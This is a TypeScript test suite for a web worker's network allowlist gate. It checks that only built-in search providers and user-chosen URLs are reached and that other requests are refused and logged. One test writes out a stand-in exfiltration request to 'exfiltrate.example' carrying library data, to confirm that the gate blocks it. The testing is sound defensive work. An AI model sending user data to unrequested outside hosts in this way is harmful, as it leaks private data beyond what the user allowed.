// The web worker's composition in Node: the real web service behind the network gate, with the
// gate following the user's settings (workers/web/web-origins.ts). Built-in providers go out; a
// base URL or page the user chose goes out once chosen; anything else is refused unsent.
import { describe, expect, it } from 'vitest';
import { createNetGate, requestUrl } from '../shared/net-gate';
import type { WebApi } from '../shared/web-api';
import { createFakeClock } from './fake-clock.testkit';
import { createMemoryStorage } from './settings';
import { createTestWebService } from './web-service.testkit';
import { allowWebUserUrls, webBuiltInOrigins } from './web-origins';

const SELF = 'https://sift.example/assets/web.worker.js';

function composeWebWorker() {
  const sent: string[] = [];
  const clock = createFakeClock();
  const gate = createNetGate({
    fetch: async (input) => {
      sent.push(requestUrl(input));
      return new Response(JSON.stringify({ results: [] }), {
        status: 200,
        headers: { 'content-type': 'application/json' },
      });
    },
    self: SELF,
    builtIn: webBuiltInOrigins(),
  });
  const service = createTestWebService({ fetch: gate.fetch, clock, maxRetries: 0 });
  const { ledger: _l, redactor: _r, ...exposed } = service;
  const api: WebApi = allowWebUserUrls(exposed, gate);
  return { api, service, gate, sent, clock };
}

describe('the web worker behind its network gate', () => {
  it('admits every provider API and nothing else before the user sets anything', () => {
    const { gate } = composeWebWorker();
    expect(gate.origins()).toEqual([
      'https://sift.example',
      'https://api.tavily.com',
      'https://api.exa.ai',
      'https://api.perplexity.ai',
      'https://api.search.brave.com',
      'https://api.semanticscholar.org',
      'https://export.arxiv.org',
    ]);
  });

  it('a SearXNG base URL and a page to import go out once the user chose them; an unlisted origin is refused unsent', async () => {
    const { api, gate, sent, clock } = composeWebWorker();
    await api.init(createMemoryStorage());
    await expect(gate.fetch('https://searx.example/search?q=x')).rejects.toMatchObject({
      code: 'ORIGIN_NOT_ALLOWED',
    });
    expect(sent).toEqual([]);

    await api.updateProvider('searxng', { enabled: true, baseUrl: 'https://searx.example' });
    const result = await clock.run(api.search({ query: 'cormorants', providers: ['searxng'] }));
    expect(result.failures).toEqual([]);
    expect(sent.map((u) => new URL(u).origin)).toEqual(['https://searx.example']);

    await clock.run(api.fetchPage('https://pages.example/article', null));
    expect(sent.at(-1)).toBe('https://pages.example/article');

    await expect(gate.fetch('https://exfiltrate.example/?d=library')).rejects.toThrow(
      /refused a request to https:\/\/exfiltrate\.example/,
    );
    expect(sent).toHaveLength(2);
  });

  it('a proxy base URL stored in settings is admitted when the settings load', async () => {
    const storage = createMemoryStorage();
    const first = composeWebWorker();
    await first.api.init(storage);
    await first.api.updateProvider('brave', { baseUrl: 'https://proxy.example/brave/' });

    const { api, gate } = composeWebWorker();
    expect(gate.origins()).not.toContain('https://proxy.example');
    await api.init(storage);
    expect(gate.origins()).toContain('https://proxy.example');
  });

  it('a request that did not come through the worker API is refused, unsent, and in the ledger', async () => {
    const { service: inner, sent, clock } = composeWebWorker();
    // The service alone (not the wrapped API): as code inside the worker that tries a page itself.
    await inner.init();
    const page = await clock.run(inner.fetchPage('https://not-asked.example/', null));
    expect(page).toMatchObject({ ok: false, code: 'ORIGIN_NOT_ALLOWED' });
    expect(sent).toEqual([]);
    expect(await inner.getLedger()).toMatchObject([
      { outcome: 'ORIGIN_NOT_ALLOWED', bytesSent: 0, bytesReceived: 0 },
    ]);
  });
});
